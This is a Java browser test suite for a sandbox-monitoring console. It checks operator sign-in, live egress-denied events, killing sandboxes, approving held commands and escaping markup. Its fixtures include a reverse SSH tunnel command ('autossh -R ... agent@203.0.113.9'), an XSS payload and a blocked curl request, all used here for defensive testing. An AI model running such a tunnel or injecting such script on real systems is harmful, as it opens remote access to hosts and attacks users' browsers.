package dev.ale.server;

import dev.ale.monitor.audit.AuditLog;
import dev.ale.monitor.audit.AuditQuery;
import dev.ale.server.console.Console;
import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import com.fasterxml.jackson.databind.JsonNode;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;

import static dev.ale.server.LiveServer.ADMIN;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * The console in a real browser: Debian's headless chromium driven through Debian's chromedriver,
 * against a real server whose sandboxes raise real events. Screenshots go to
 * {@code target/console-screenshots/}.
 */
@Tag("root")
class ConsoleBrowserTest {

    private static final Path CHROMEDRIVER = Path.of("/usr/bin/chromedriver");
    private static final Path CHROMIUM = Path.of("/usr/bin/chromium");
    private static final Path SHOTS = Path.of("target", "console-screenshots");
    private static final Duration WAIT = Duration.ofSeconds(30);

    @RegisterExtension
    static final LiveServer live = LiveServer.withConsole(Console.Settings.defaults());

    /** A command the passport {@code hold} holds before it runs: it waits for an operator. */
    private static final String HELD = "{\"command\": \"touch /workspace/ran; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9\","
            + " \"timeout_seconds\": 60}";

    private static ChromeDriver browser;
    private static ChromeDriverService service;
    private static Path profile;

    @BeforeAll
    static void startBrowser() throws IOException {
        assumeTrue(Files.isExecutable(CHROMEDRIVER) && Files.isExecutable(CHROMIUM),
                "needs Debian's chromium and chromium-driver (./run-tests installs them)");
        profile = Files.createTempDirectory(Path.of("/tmp"), "ale-console-chromium");
        Files.createDirectories(SHOTS);
        service = new ChromeDriverService.Builder().usingDriverExecutable(CHROMEDRIVER.toFile()).usingAnyFreePort().build();
        ChromeOptions options = new ChromeOptions();
        options.setBinary(CHROMIUM.toFile());
        options.addArguments("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync", "--window-size=1400,1000",
                "--user-data-dir=" + profile);
        browser = new ChromeDriver(service, options);
    }

    @AfterAll
    static void stopBrowser() throws IOException {
        try {
            if (browser != null) browser.quit();
        } finally {
            if (service != null) service.stop();
            if (profile != null) GemTasks.delete(profile);
        }
    }

    @Test
    void anOperatorSignsInSeesALiveEventArriveAndKillsTheSandbox() throws Exception {
        String id = live.create(ADMIN);
        browser.get(live.uri("/ui/login").toString());
        browser.manage().deleteAllCookies(); // signed out, whichever test ran before

        browser.get(live.uri("/ui/fleet").toString());
        assertThat(browser.getCurrentUrl()).endsWith("/ui/login");
        shot("1-sign-in");
        browser.findElement(By.id("token")).sendKeys(ADMIN);
        browser.findElement(By.id("sign-in")).click();
        await(() -> browser.getCurrentUrl().endsWith("/ui/fleet"));
        assertThat(browser.findElement(By.id("who")).getText()).isEqualTo("root");
        assertThat(browser.findElement(By.id("fleet")).getText()).contains(id).contains("running");
        shot("2-fleet");

        browser.findElement(By.linkText(id)).click();
        await(() -> browser.getCurrentUrl().endsWith("/ui/sandboxes/" + id));
        await(() -> browser.findElement(By.id("stream-status")).getText().equals("live"));
        assertThat(rows("events")).isEmpty();
        // a mark in this page's window: still there after the event shows, so the page was not reloaded for it
        ((JavascriptExecutor) browser).executeScript("window.aleMark = 'same page';");

        LiveServer.Reply refused = live.call("POST", "/v1/sandboxes/" + id + "/exec", ADMIN,
                "{\"command\": \"curl -sS -m 5 -o /dev/null http://not-allowed.example/\"}");
        assertThat(refused.json().get("events").findValuesAsText("category")).contains("egress-denied");

        await(() -> rows("events").stream().anyMatch(r -> r.getText().contains("egress-denied")));
        assertThat(((JavascriptExecutor) browser).executeScript("return window.aleMark;")).isEqualTo("same page");
        assertThat(rows("events").getFirst().getText()).contains("block");
        shot("3-live-event");

        browser.findElement(By.id("kill")).click();
        await(() -> browser.getCurrentUrl().contains("done=killed"));
        assertThat(browser.findElement(By.id("message")).getText()).isEqualTo("The sandbox was killed.");
        assertThat(browser.findElement(By.id("state")).getText()).startsWith("killed").contains("root");
        assertThat(browser.findElements(By.id("kill"))).isEmpty();
        shot("4-killed");
        assertThat(live.call("GET", "/v1/sandboxes/" + id, ADMIN, null).json().get("state").asText()).isEqualTo("killed");
        // the page's network table has the gateway's refusal, for what the agent tried to reach
        assertThat(browser.findElement(By.id("network")).getText()).contains("not-allowed.example").contains("refused");
        try (AuditLog log = AuditLog.openExisting(live.auditFile())) {
            assertThat(log.query(AuditQuery.all().withKind("console").withSandbox(id)))
                    .anySatisfy(r -> assertThat(r.payloadMap()).containsEntry("action", "kill").containsEntry("token", "root"));
        }
    }

    @Test
    void markupInACommandLineIsShownAsTextAndNeverRuns() throws Exception {
        String payload = "<img src=x onerror=alert(1)><script>alert(2)</script>";
        String id = live.create(ADMIN);
        signIn();
        String body = "{\"argv\": [\"/bin/sh\", \"-c\", \"sleep 60; true\", \"" + payload + "\"]}";
        CompletableFuture<LiveServer.Reply> running = CompletableFuture.supplyAsync(() -> live.call("POST", "/v1/sandboxes/" + id + "/exec", ADMIN, body));
        try {
            await(() -> {
                browser.get(live.uri("/ui/sandboxes/" + id).toString());
                return browser.findElement(By.id("processes")).getText().contains("sleep 60");
            });
            assertThat(browser.findElement(By.id("processes")).getText()).contains("sleep 60; true " + payload);
            assertThat(browser.findElements(By.cssSelector("main img, main script"))).isEmpty();
            assertThatThrownBy(() -> browser.switchTo().alert()).isInstanceOf(NoAlertPresentException.class);
            shot("5-markup-as-text");
        } finally {
            browser.findElement(By.id("kill")).click();
            running.get();
        }
    }

    @Test
    void anOperatorApprovesAHeldCommandWhichThenRunsAndADecisionThatComesSecondIsToldSo() throws Exception {
        LiveServer.Reply made = live.call("POST", "/v1/sandboxes", ADMIN, "{\"passport\": \"hold\"}");
        assertThat(made.status()).as(made.body()).isEqualTo(201);
        String id = made.json().get("id").asText();
        signIn();
        browser.get(live.uri("/ui/sandboxes/" + id).toString());
        await(() -> browser.findElement(By.id("stream-status")).getText().equals("live"));
        ((JavascriptExecutor) browser).executeScript("window.aleMark = 'same page';");

        CompletableFuture<LiveServer.Reply> first = execLater(id);
        String h1 = pendingHold(id, Set.of());
        // the HELD event arrives on the open page over its event stream, while the command waits
        await(() -> rows("events").stream().anyMatch(r -> r.getText().contains("tunnel.ssh.remote-forward") && r.getText().contains("hold")));
        assertThat(((JavascriptExecutor) browser).executeScript("return window.aleMark;")).isEqualTo("same page");
        assertThat(first).as("the held command waits").isNotDone();
        browser.navigate().refresh();
        assertThat(browser.findElement(By.id("state")).getText()).isEqualTo("held (" + h1 + ", command, tunnel.ssh.remote-forward)");
        shot("6-held-live");

        browser.get(live.uri("/ui/fleet").toString());
        assertThat(browser.findElement(By.id("fleet")).getText()).contains(id).contains("held");
        browser.findElement(By.linkText("Holds")).click();
        await(() -> browser.getCurrentUrl().endsWith("/ui/holds"));
        shot("7-holds");
        holdRow(h1).findElement(By.cssSelector("button.approve")).click();
        await(() -> browser.getCurrentUrl().contains("done=approved"));
        assertThat(browser.findElement(By.id("message")).getText()).isEqualTo("The hold was approved.");
        assertThat(holdRow(h1).getText()).contains("approved").contains("root");
        assertThat(holdRow(h1).findElements(By.tagName("button"))).isEmpty();
        shot("8-hold-approved");
        assertThat(exitCode(first.get(60, TimeUnit.SECONDS))).as("the approved command ran").isNotEqualTo(126);
        assertThat(exitCode(live.call("POST", "/v1/sandboxes/" + id + "/exec", ADMIN, "{\"command\": \"test -e /workspace/ran\"}")))
                .isZero();

        // a second held command, denied through the API by another operator while this page still offers it
        CompletableFuture<LiveServer.Reply> second = execLater(id);
        String h2 = pendingHold(id, Set.of(h1));
        browser.navigate().refresh();
        await(() -> holdRow(h2).findElements(By.cssSelector("button.approve")).size() == 1);
        assertThat(live.call("POST", "/holds/" + h2 + "/deny", ADMIN, null).status()).isEqualTo(200);
        holdRow(h2).findElement(By.cssSelector("button.approve")).click();
        await(() -> browser.getCurrentUrl().contains("done=already-decided"));
        assertThat(browser.findElement(By.id("message")).getText()).contains("already decided");
        assertThat(exitCode(second.get(60, TimeUnit.SECONDS))).as("the denied command was refused").isEqualTo(126);
        try (AuditLog log = AuditLog.openExisting(live.auditFile())) {
            assertThat(log.query(AuditQuery.all().withKind("console").withRule("console.approve")))
                    .anySatisfy(r -> assertThat(r.payloadMap()).containsEntry("outcome", "hold " + h1 + ": decided").containsEntry("token", "root"))
                    .anySatisfy(r -> assertThat(r.payloadMap()).containsEntry("outcome", "hold " + h2 + ": already_decided"));
        }
    }

    /** The exit code an exec answered; a reply that is not one fails with its body, which says why. */
    private static int exitCode(LiveServer.Reply reply) {
        assertThat(reply.status()).as(reply.body()).isEqualTo(200);
        return reply.json().get("exit_code").asInt();
    }

    private static CompletableFuture<LiveServer.Reply> execLater(String id) {
        return CompletableFuture.supplyAsync(() -> live.call("POST", "/v1/sandboxes/" + id + "/exec", ADMIN, HELD));
    }

    /** The id of the sandbox's pending hold that is none of {@code seen}, once the server lists it. */
    private static String pendingHold(String sandboxId, Set<String> seen) {
        String[] found = new String[1];
        await(() -> {
            for (JsonNode h : live.call("GET", "/holds", ADMIN, null).json()) {
                boolean fresh = h.get("sandboxId").asText().equals(sandboxId) && h.get("state").asText().equals("pending");
                if (fresh && !seen.contains(h.get("id").asText())) {
                    found[0] = h.get("id").asText();
                    return true;
                }
            }
            return false;
        });
        return found[0];
    }

    private static WebElement holdRow(String holdId) {
        return rows("holds").stream().filter(r -> r.findElements(By.tagName("td")).getFirst().getText().equals(holdId)).findFirst().orElseThrow();
    }

    private static void signIn() {
        browser.get(live.uri("/ui/login").toString());
        if (!browser.getCurrentUrl().endsWith("/ui/login")) return;
        browser.findElement(By.id("token")).sendKeys(ADMIN);
        browser.findElement(By.id("sign-in")).click();
        await(() -> browser.getCurrentUrl().endsWith("/ui/fleet"));
    }

    private static List<WebElement> rows(String table) {
        return browser.findElements(By.cssSelector("#" + table + " tbody tr"));
    }

    private static void shot(String name) throws IOException {
        File png = ((TakesScreenshot) browser).getScreenshotAs(OutputType.FILE);
        Files.copy(png.toPath(), SHOTS.resolve(name + ".png"), StandardCopyOption.REPLACE_EXISTING);
    }

    private static void await(BooleanSupplier condition) {
        Instant deadline = Instant.now().plus(WAIT);
        while (true) {
            try {
                if (condition.getAsBoolean()) return;
            } catch (RuntimeException e) {
                // the element is not there yet
            }
            if (Instant.now().isAfter(deadline)) throw new AssertionError("not within " + WAIT + "; the page: " + browser.getPageSource());
            try {
                Thread.sleep(100);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new AssertionError(e);
            }
        }
    }
}
